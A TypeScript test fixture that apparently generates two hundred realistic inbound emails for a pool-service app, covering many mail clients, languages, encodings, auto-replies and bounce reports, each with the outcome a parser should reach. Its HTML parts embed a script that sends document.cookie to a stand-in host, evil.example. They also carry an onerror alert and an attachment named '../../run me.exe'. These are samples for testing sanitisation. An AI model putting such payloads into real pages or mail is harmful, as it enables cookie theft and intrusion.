// Mails as mail programs, absence notes and mail servers write them, made by rule: each with what is to become of it.

export interface RealMail {
  name: string;
  raw: Buffer;
  outcome: 'kept' | 'automatic' | 'own' | 'bounced' | 'unknown';
  /** What its writer wrote, where it is kept. */
  own?: string;
  /** Whose conversation it joins, where it is kept. */
  of?: Correspondent;
  attachments?: string[];
}

/** A customer who was written to. */
export interface Correspondent {
  customerId: string;
  email: string;
  name: string;
  /** Where replies go. */
  replyTo: string;
  /** The Message-ID of the email that they got. */
  messageId: string;
}

const company = 'Clear Blue Pools';
const office = 'no-reply@pools.example';
const old = ['Hi Pat,', 'we serviced your pool today. Free chlorine was 1.4 ppm.', 'See you next Monday!'];

const said = [
  'Thanks! Can you come a day later next week?',
  'The gate code is now 4471.\n\nThe dog is inside until noon.',
  '¿Pueden venir el jueves? La bomba hace ruido — suena como un avión.',
  'Great job 👍🏽 the water looks wonderful.',
  'Please call me: 602-555-0144.\nI am home after 5 PM.',
  'No.',
  'I paid the invoice yesterday (check #1182), why does it say $135.50 is open?',
  'Gracias por la visita. ¿Cuánto cuesta limpiar el filtro? ¡Saludos!',
  'On Monday we are away, On Tuesday we are back.',
];

const quoted = (lines: readonly string[]): string => lines.map((line) => `> ${line}`.trimEnd()).join('\n');
const q = quoted(old);
const o = old.join('\n');

/** What stands in the plain part around what was written. */
const clients: Record<string, (own: string) => string> = {
  Gmail: (own) => `${own}\n\nOn Mon, Nov 23, 2026 at 9:00 AM ${company} <${office}> wrote:\n\n${q}\n`,
  'Gmail, wrapped': (own) =>
    `${own}\n\nOn Mon, Nov 23, 2026 at 9:00 AM ${company} and Maintenance of Arizona <\n${office}> wrote:\n\n${q}\n>\n`,
  'Gmail in Spanish': (own) =>
    `${own}\n\nEl lun, 23 nov 2026 a las 9:00, ${company} (<${office}>)\nescribió:\n\n${q}\n`,
  Outlook: (own) =>
    `${own}\n\n________________________________\nFrom: ${company} <${office}>\nSent: Monday, November 23, 2026 9:00 AM\nTo: Pat Rivera <pat@example.com>\nSubject: Your pool\n\n${o}\n`,
  'Outlook in Spanish': (own) =>
    `${own}\n\nDe: ${company} <${office}>\nEnviado: lunes, 23 de noviembre de 2026 9:00\nPara: Pat Rivera <pat@example.com>\nAsunto: Su alberca\n\n${o}\n`,
  'Outlook of before': (own) =>
    `${own}\n\n-----Original Message-----\nFrom: ${company} [mailto:${office}]\nSent: Monday, November 23, 2026 9:00 AM\nTo: Pat\nSubject: Your pool\n\n${o}\n`,
  'Outlook on a phone': (own) =>
    `${own}\n\nGet Outlook for iOS<https://aka.ms/o0ukef>\n________________________________\nFrom: ${company} <${office}>\nSent: Monday, November 23, 2026 9:00:00 AM\nTo: pat@example.com <pat@example.com>\nSubject: Your pool\n\n${o}\n`,
  iPhone: (own) =>
    `${own}\n\nSent from my iPhone\n\n> On Nov 23, 2026, at 9:00 AM, ${company} <${office}> wrote:\n> \n> \ufeff${old.join('\n> ')}\n`,
  'iPhone in Spanish': (own) =>
    `${own}\n\nEnviado desde mi iPhone\n\n> El 23 nov 2026, a las 9:00, ${company} <${office}> escribió:\n> \n${q}\n`,
  Yahoo: (own) =>
    `${own}\n\n    On Monday, November 23, 2026 at 09:00:00 AM MST, ${company} <${office}> wrote:  \n \n ${old.join('\n \n')}  \n`,
  'Yahoo in Spanish': (own) =>
    `${own}\n\n    El lunes, 23 de noviembre de 2026, 09:00:00 MST, ${company} <${office}> escribió:  \n \n ${o}\n`,
  Thunderbird: (own) => `${own}\n\nOn 11/23/26 9:00 AM, ${company} wrote:\n${q}\n\n-- \nPat Rivera\n602-555-0144\n`,
  'Thunderbird, below': (own) => `On 11/23/26 9:00 AM, ${company} wrote:\n${q}\n\n${own}\n\n-- \nPat Rivera\n`,
  Samsung: (own) =>
    `${own}\n\n\nSent from my Galaxy\n\n-------- Original message --------\nFrom: ${company} <${office}>\nDate: 11/23/26 9:00 AM (GMT-07:00)\nTo: pat@example.com\nSubject: Your pool\n\n${o}\n`,
  Proton: (own) =>
    `${own}\n\nSent with Proton Mail secure email.\n\nOn Monday, November 23rd, 2026 at 9:00 AM, ${company} <${office}> wrote:\n\n${q}\n`,
  'a note with a signature': (own) => `${own}\n\n-- \nPat Rivera\nRivera Plumbing LLC\nwww.rivera.example\n`,
};

const html = (text: string): string =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .split('\n')
    .map((each) => `<div>${each || '<br>'}</div>`)
    .join('');

const tricks =
  '<script>fetch("https://evil.example/"+document.cookie)</script><img src="https://evil.example/pixel.gif" onerror="alert(1)"><style>div{color:red}</style>';

const page = (own: string, client: string): string =>
  `<html><head><title>Re</title><style>p.MsoNormal{margin:0}</style></head><body>${html(own)}${tricks}${
    client.startsWith('Outlook')
      ? `<div style="border:none;border-top:solid #E1E1E1 1.0pt"><p class=MsoNormal><b>From:</b> ${company} &lt;${office}&gt;<br><b>Sent:</b> Monday, November 23, 2026 9:00 AM<br><b>To:</b> Pat<br><b>Subject:</b> Your pool</p></div><p class=MsoNormal>${old.join('</p><p class=MsoNormal>')}</p>`
      : `<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, Nov 23, 2026 at 9:00&#8239;AM ${company} &lt;<a href="mailto:${office}">${office}</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0">${html(o)}</blockquote></div>`
  }</body></html>`;

const wrapped = (base64: string): string => base64.replace(/.{1,76}/g, '$&\r\n');
const quotedPrintable = (bytes: Buffer): string => {
  let out = '';
  let column = 0;
  for (const byte of bytes) {
    const isPlain = (byte >= 33 && byte <= 126 && byte !== 61) || byte === 32 || byte === 10;
    if (byte === 10) {
      out += '\r\n';
      column = 0;
      continue;
    }
    const next = isPlain ? String.fromCharCode(byte) : `=${byte.toString(16).toUpperCase().padStart(2, '0')}`;
    if (column + next.length > 74) {
      out += '=\r\n';
      column = 0;
    }
    out += next;
    column += next.length;
  }
  return out.replace(/ \r\n/g, '=20\r\n');
};

type Encode = (text: string, type: string) => Buffer;
const part = (type: string, charset: string, encoding: string, content: string | Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`Content-Type: ${type}; charset=${charset}\r\nContent-Transfer-Encoding: ${encoding}\r\n\r\n`),
    Buffer.isBuffer(content) ? content : Buffer.from(content),
    Buffer.from('\r\n'),
  ]);
const crlf = (text: string): string => text.replaceAll('\n', '\r\n');
const isLatin = (text: string): boolean =>
  [...text].every((letter) => letter.charCodeAt(0) < 256 && letter.length === 1);
const encodings: Encode[] = [
  (text, type) => part(type, 'utf-8', '8bit', crlf(text)),
  (text, type) => part(type, '"UTF-8"', 'quoted-printable', quotedPrintable(Buffer.from(text))),
  (text, type) => part(type, 'utf-8', 'base64', wrapped(Buffer.from(crlf(text)).toString('base64'))),
  (text, type) =>
    isLatin(text)
      ? part(type, 'iso-8859-1', 'quoted-printable', quotedPrintable(Buffer.from(text, 'latin1')))
      : part(type, 'utf-8', 'base64', wrapped(Buffer.from(text).toString('base64'))),
  (text, type) =>
    isLatin(text)
      ? part(type, 'windows-1252', '8bit', Buffer.from(crlf(text), 'latin1'))
      : part(type, 'utf-8', '8bit', crlf(text)),
];

const several = (kind: string, boundary: string, parts: Buffer[]): Buffer =>
  Buffer.concat([
    Buffer.from(
      `Content-Type: multipart/${kind}; boundary="${boundary}"\r\n\r\nThis is a multi-part message in MIME format.\r\n`,
    ),
    ...parts.flatMap((each) => [Buffer.from(`--${boundary}\r\n`), each, Buffer.from('\r\n')]),
    Buffer.from(`--${boundary}--\r\n`),
  ]);
const file = (type: string, name: string, content: string, more = ''): Buffer =>
  Buffer.from(
    `Content-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n${more}Content-Transfer-Encoding: base64\r\n\r\n${wrapped(Buffer.from(content).toString('base64'))}`,
  );

interface Shaped {
  body: Buffer;
  attachments: string[];
}
type Shape = (text: string, own: string, client: string, encode: Encode) => Shaped;

const alternative: Shape = (text, own, client, encode) => ({
  body: several('alternative', 'alt_1', [encode(text, 'text/plain'), encode(page(own, client), 'text/html')]),
  attachments: [],
});
const shapes: Shape[] = [
  (text, _own, _client, encode) => ({ body: encode(text, 'text/plain'), attachments: [] }),
  alternative,
  (_text, own, client, encode) => ({ body: encode(page(own, client), 'text/html'), attachments: [] }),
  (...given) => ({
    body: several('mixed', 'mix=_1', [
      alternative(...given).body,
      file('application/pdf', 'filter receipt.pdf', '%PDF-1.4 /JavaScript'),
    ]),
    attachments: ['filter receipt.pdf'],
  }),
  (text, own, client, encode) => ({
    body: several('mixed', 'm2', [
      several('related', 'rel', [
        several('alternative', 'alt', [encode(text, 'text/plain'), encode(page(own, client), 'text/html')]),
        file('image/jpeg', 'IMG_0042.jpeg', 'not a picture', 'Content-ID: <ii_1>\r\n'),
      ]),
      file('application/x-msdownload', '../../run me.exe', 'MZ'),
    ]),
    attachments: ['IMG_0042.jpeg', '.._.._run me.exe'],
  }),
  (...given) => ({
    body: several('mixed', 'm3', [
      given[3](given[0], 'text/plain'),
      file('application/ms-tnef', 'winmail.dat', 'x\u009f>"'),
    ]),
    attachments: [],
  }),
  (...given) => ({
    body: several('mixed', 'm4', [
      alternative(...given).body,
      file('text/calendar; method=REQUEST', 'invite.ics', 'BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nEND:VCALENDAR\r\n'),
    ]),
    attachments: ['invite.ics'],
  }),
  (...given) => ({
    body: several('mixed', 'n0', [
      several('mixed', 'n1', [several('mixed', 'n2', [several('mixed', 'n3', [alternative(...given).body])])]),
    ]),
    attachments: [],
  }),
  (text, _own, _client, encode) => ({
    body: several('signed; protocol="application/pkcs7-signature"; micalg=sha-256', 'sig', [
      encode(text, 'text/plain'),
      file('application/pkcs7-signature', 'smime.p7s', 'signature'),
    ]),
    attachments: ['smime.p7s'],
  }),
];

const subjects = [
  'Re: Your pool',
  'RE: Your pool',
  '=?UTF-8?Q?RV=3A_Su_alberca_=C3=A1?=',
  '=?utf-8?B?UmU6IGdyYWNpYXMg8J+RjQ==?=',
  '',
];
const huge = `${Array.from({ length: 120 }, (_, n) => `Received: from mx${n}.example (mx${n}.example [192.0.2.${n}]) by mx.example with ESMTPS id ${'a'.repeat(40)}\r\n\tfor <reply@in.example>; Mon, 23 Nov 2026 16:00:00 +0000`).join('\r\n')}\r\nDKIM-Signature: v=1; a=rsa-sha256; b=${'Qx'.repeat(2000)}\r\n`;

const mail = (headers: readonly (string | false)[], body: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(
      headers
        .filter((each) => each !== false)
        .map((each) => `${each}\r\n`)
        .join(''),
    ),
    Buffer.from('MIME-Version: 1.0\r\n'),
    body,
  ]);

const bare = (replyTo: string): string => replyTo.replace(/\+[^@]+/, '');

/** How a mail finds its way, each by another trace. */
const traces: ((of: Correspondent) => string[])[] = [
  (of) => [`To: ${company} <${of.replyTo}>`, `In-Reply-To: ${of.messageId}`, `References: ${of.messageId}`],
  (of) => [`To: "${company}" <${of.replyTo.toUpperCase()}>`],
  (of) => [`Delivered-To: ${of.replyTo}`, 'To: undisclosed-recipients:;'],
  (of) => [`To: ${bare(of.replyTo)}`, `In-Reply-To: ${of.messageId}`],
  (of) => [
    `To: ${bare(of.replyTo)}`,
    `References: <first@mail.example>\r\n ${of.messageId}\r\n <later@mail.example>`,
    'In-Reply-To: <later@mail.example>',
  ],
  (of) => [`To: someone@else.example`, `Cc: ${of.replyTo}`],
];

export interface Writers {
  customers: readonly Correspondent[];
  /** The address that a company forwards its mailbox to. */
  companyAddress: string;
  /** An address that two customers of the company have. */
  sharedEmail: string;
}

/** Two hundred of them. */
export function realMails({ customers, companyAddress, sharedEmail }: Writers): RealMail[] {
  const mails: RealMail[] = [];
  let n = 0;
  const id = (): string => {
    n += 1;
    return `<real-${n}@mail.example>`;
  };
  const of = (): Correspondent => customers[n % customers.length] as Correspondent;
  const date = 'Date: Mon, 23 Nov 2026 16:00:00 +0000';

  for (const [client, around] of Object.entries(clients)) {
    for (const [index, own] of said.entries()) {
      const writer = of();
      // What stands below what it answers is told from it by the marks of a plain part.
      const fits =
        client === 'Thunderbird, below' || client === 'a note with a signature' ? [0, 5, 8] : [...shapes.keys()];
      const shape = shapes[fits[(index + n) % fits.length] as number] as Shape;
      const isForwarded = n % 13 === 12;
      const trace = isForwarded
        ? [`To: ${companyAddress}`]
        : (traces[n % traces.length] as (typeof traces)[number])(writer);
      const { body, attachments } = shape(
        around(own),
        own,
        client,
        encodings[(n * 7 + index) % encodings.length] as Encode,
      );
      mails.push({
        name: `${client}, ${index}`,
        raw: mail(
          [
            n % 17 === 16 && huge.trimEnd(),
            `From: "${writer.name}" <${n % 3 === 0 && !isForwarded ? 'spouse@elsewhere.example' : writer.email}>`,
            ...trace,
            `Subject: ${subjects[n % subjects.length]}`,
            `Message-ID: ${id()}`,
            date,
          ],
          body,
        ),
        outcome: 'kept',
        own,
        of: writer,
        attachments,
      });
    }
  }

  const absences: [string[], string, string][] = [
    [['Auto-Submitted: auto-replied'], 'Automatic reply: Your pool', 'I am out of the office until December 3.'],
    [['Auto-Submitted: auto-replied (vacation)'], 'Respuesta automática: Su alberca', 'Estoy fuera de la oficina.'],
    [['X-Autoreply: yes'], 'Re: Your pool', 'I am on vacation.'],
    [['X-Autorespond: Your pool'], 'Away', 'Back soon.'],
    [['Precedence: bulk'], 'Ticket 4711 was opened', 'We got your message.'],
    [['Precedence: auto_reply', 'Return-Path: <>'], 'Out of Office', 'Away.'],
    [['Return-Path: <>'], 'Abwesenheitsnotiz: Pool', 'Ich bin nicht im Büro.'],
    [[], 'Réponse automatique : Votre piscine', 'Je suis absent.'],
    [[], 'Resposta automática: Piscina', 'Estou fora.'],
    [[], 'Risposta automatica: Piscina', 'Sono assente.'],
    [['X-Auto-Response-Suppress: All', 'auto-submitted: auto-generated'], 'Automatic reply: Your pool', '<b>Away</b>'],
    [['List-Id: <news.example>', 'List-Unsubscribe: <https://news.example>'], 'This week', 'News'],
  ];
  for (let round = 0; round < 2; round += 1) {
    for (const [headers, subject, text] of absences) {
      const writer = of();
      mails.push({
        name: `automatic: ${subject}`,
        raw: mail(
          [
            ...headers,
            `From: ${writer.email}`,
            `To: ${writer.replyTo}`,
            `In-Reply-To: ${writer.messageId}`,
            `Subject: ${subject}`,
            `Message-ID: ${id()}`,
            date,
          ],
          (encodings[round] as Encode)(text, 'text/plain'),
        ),
        outcome: 'automatic',
      });
    }
  }

  const report = (
    action: string,
    fields: string[],
    original: (of: Correspondent) => Buffer,
    from: string,
    subject: string,
  ) => {
    const writer = of();
    return {
      writer,
      raw: mail(
        [
          `Return-Path: <>`,
          `From: ${from}`,
          `To: ${office}`,
          'Auto-Submitted: auto-replied',
          `Subject: ${subject}`,
          `Message-ID: ${id()}`,
          date,
        ],
        several('report; report-type=delivery-status', 'report', [
          part('text/plain', 'us-ascii', '7bit', 'Your message could not be delivered.'),
          Buffer.from(
            `Content-Description: Delivery report\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example\r\nArrival-Date: Mon, 23 Nov 2026 09:00:00 -0700\r\n\r\nFinal-Recipient: rfc822; ${writer.email}\r\n${fields.join('\r\n')}\r\nAction: ${action}\r\n`,
          ),
          original(writer),
        ]),
      ),
    };
  };
  const whole = (writer: Correspondent): Buffer =>
    Buffer.from(
      `Content-Type: message/rfc822\r\n\r\nMessage-ID: ${writer.messageId}\r\nFrom: ${office}\r\nTo: ${writer.email}\r\nSubject: Your pool\r\n\r\n${o}\r\n`,
    );
  const headersOnly = (writer: Correspondent): Buffer =>
    Buffer.from(
      `Content-Type: text/rfc822-headers\r\n\r\nReceived: by mx.example\r\nMessage-ID:\r\n ${writer.messageId}\r\nSubject: Your pool\r\n`,
    );
  const servers: [string, string, string[], (of: Correspondent) => Buffer, string][] = [
    [
      'Postfix',
      'MAILER-DAEMON@mx.example (Mail Delivery System)',
      [
        'Original-Recipient: rfc822;',
        'Status: 5.1.1',
        'Diagnostic-Code: smtp; 550 5.1.1 The email account that you tried\r\n    to reach does not exist',
      ],
      whole,
      'Undelivered Mail Returned to Sender',
    ],
    [
      'Exchange',
      'postmaster@outlook.example',
      ['Status: 5.1.10', 'Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound'],
      headersOnly,
      'Undeliverable: Your pool',
    ],
    [
      'Gmail',
      'Mail Delivery Subsystem <mailer-daemon@googlemail.example>',
      [
        'Status: 5.2.1',
        'Remote-MTA: dns; mx.example',
        'Diagnostic-Code: smtp; 550-5.2.1 The email account is inactive',
      ],
      whole,
      'Delivery Status Notification (Failure)',
    ],
  ];
  for (const [server, from, fields, original, subject] of servers) {
    for (const action of ['failed', 'delayed']) {
      const fieldsOf = fields.filter((field) => !field.endsWith('rfc822;'));
      for (let round = 0; round < customers.length && (action === 'failed' || round < 2); round += 1) {
        // Each email comes back once: the next one is of the next customer, and each server has its own.
        if (action === 'failed' && round % servers.length !== servers.findIndex(([name]) => name === server)) continue;
        while (action === 'failed' && of() !== customers[round]) n += 1;
        const { raw } = report(action, fieldsOf, original, from, subject);
        mails.push({
          name: `${server}, ${action} ${round}`,
          raw,
          outcome: action === 'failed' ? 'bounced' : 'automatic',
        });
      }
    }
  }

  for (const writer of customers.slice(0, 6)) {
    const index = customers.indexOf(writer);
    mails.push({
      name: `our own, ${index}`,
      raw: mail(
        [
          `From: ${index % 2 ? company : 'Poolhand'} <${index % 3 === 1 ? writer.email : index % 3 === 2 ? bare(writer.replyTo) : office}>`,
          `To: ${writer.replyTo}`,
          'Subject: Your pool',
          `Message-ID: ${index % 3 === 1 ? writer.messageId.replace('<', '<again-') : id()}`,
          date,
        ],
        part('text/plain', 'utf-8', '7bit', o),
      ),
      outcome: 'own',
    });
  }
  for (let index = 0; mails.length < 200; index += 1) {
    const to = index % 3 === 0 ? companyAddress : bare(companyAddress);
    mails.push({
      name: `nobody’s, ${index}`,
      raw: mail(
        [
          `From: ${index % 3 === 0 ? (index % 2 ? sharedEmail : 'stranger@nowhere.example') : (customers[0] as Correspondent).email}`,
          // A key that nobody has, and the Message-ID of an email that nobody got.
          `To: ${index % 3 === 1 ? to.replace('@', `+${'q'.repeat(26)}@`) : to}`,
          index % 3 === 2 && 'In-Reply-To: <MAIL-none.00000000-0000-4000-8000-000000000000@poolhand>',
          'Subject: Hello',
          `Message-ID: ${id()}`,
          date,
        ],
        part('text/plain', 'utf-8', '7bit', 'Who are you?'),
      ),
      outcome: 'unknown',
    });
  }
  return mails;
}
